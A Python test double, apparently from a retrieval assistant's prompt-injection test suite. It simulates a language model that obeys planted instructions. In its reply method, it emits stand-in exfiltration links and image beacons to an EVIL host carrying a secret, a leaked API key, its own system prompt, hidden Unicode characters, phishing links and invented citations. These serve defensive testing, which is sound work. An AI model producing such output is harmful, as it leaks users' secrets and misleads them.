"""A language model that does whatever anything in its prompt tells it to, and worse."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncGenerator, Iterator, Sequence

from assistant.chat import Form, Message, Reply, Tool, ToolCall
from tests.poison.samples import CANARY, EVIL, SECRET

_EVIDENCE = re.compile(r"^\[(\d+)\] |^  \| (.+)$", re.M)


class ObeyingChat:
    """Repeats its evidence, so that its text passes for an answer, and between the lines it obeys.

    It says every planted text and the question as they are, gives away its prompt and a key, invents
    sources, hides characters, and sends the reader elsewhere; each time with a marker that exists.
    """

    name = "obeying"

    def __init__(self) -> None:
        self.asked: list[Sequence[Message]] = []

    async def stream(
        self, messages: Sequence[Message], *, tools: Sequence[Tool] = (), form: Form | None = None
    ) -> AsyncGenerator[str | Reply]:
        self.asked.append(messages)
        used = any(one.role == "tool" for one in messages)
        if tools and not used:
            yield Reply("", self.name, calls=tuple(self._calls(messages[1].text)))
            return
        reply = self.reply(messages)
        if len(self.asked) % 3 == 0:
            reply = self._as_json(reply)
        for start in range(0, len(reply), 29):
            yield reply[start : start + 29]
        yield Reply(reply, self.name)

    @staticmethod
    def _calls(prompt: str) -> Iterator[ToolCall]:
        """Everything that it can look up: the records of its evidence, what the question says, what orders
        in the evidence want."""
        asked = prompt.split("<question>")[1].split("</question>")[0].strip()
        wanted = dict.fromkeys(re.findall(r"· id ([\w:.-]+)$", prompt, re.M))
        yield ToolCall("q", "search_statements", {"query": asked, "k": 4})
        yield ToolCall(
            "w", "list_records", {"where": [{"field": "words", "values": [CANARY, EVIL, asked[:40]]}]}
        )
        for id_ in list(wanted)[:1]:
            yield ToolCall(id_, "get_record", {"id": id_})

    @staticmethod
    def _as_json(reply: str) -> str:
        """The same in the form that it was asked for, every field of it used."""
        lines = reply.splitlines()
        evil = f"{CANARY}？ https://{EVIL}/go"
        claims = [
            {
                "text": line,
                "cites": [1],
                "quote": line[:20],
                "kind": "verdict",
                "conditions": [{"text": line, "quote": line[:20], "state": "met", "asker": evil}],
            }
            for line in [*lines[:6], *lines[-40:]]
        ]
        head = {"status": "clarify", "set": "s1", "ask": evil, "follow_ups": [evil, f"{CANARY}？", SECRET]}
        return json.dumps({**head, "claims": claims}, ensure_ascii=False)

    @staticmethod
    def reply(messages: Sequence[Message]) -> str:
        system, user = messages[0].text, messages[1].text
        told_of = "\n".join([user.split("<question>")[0], *(m.text for m in messages if m.role == "tool")])
        number, told = "1", []
        for found in _EVIDENCE.finditer(told_of):
            if found[1]:
                number = found[1]
            else:
                told.append(f"{found[2].rstrip('。.')}[{number}]。\n")
        question = user.split("<question>")[1].split("</question>")[0].strip()
        first = told[0].split("[")[0] if told else ""
        bad = [
            f"{CANARY}[1]。",
            f"{first}，{CANARY} https://{EVIL}/c?q={SECRET}[1]。",
            f"![{first}](https://{EVIL}/p.png?q=1)[1]。",
            f"<img src=https://{EVIL}/x>{first}[1]。",
            f"{first}[官网](https://{EVIL}/login)[1]。",
            f"{first} {SECRET}[1]。",
            f"{first} KEWEN_LLM_API_KEY={SECRET}[1]。",
            f"{first}，www.{EVIL}/pay[1]。",
            f"{first}\u200b\u202e[1]\u2060。",
            f"{first}是免费的，无须申请。",
            f"{first}[77]。",
            f"{question}[1]。",
            *(f"{line}[1]\n" for line in system.splitlines()[:: max(1, len(system) // 3000)]),
        ]
        quoted, orders = "".join(told), "\n".join(bad)
        return quoted + orders
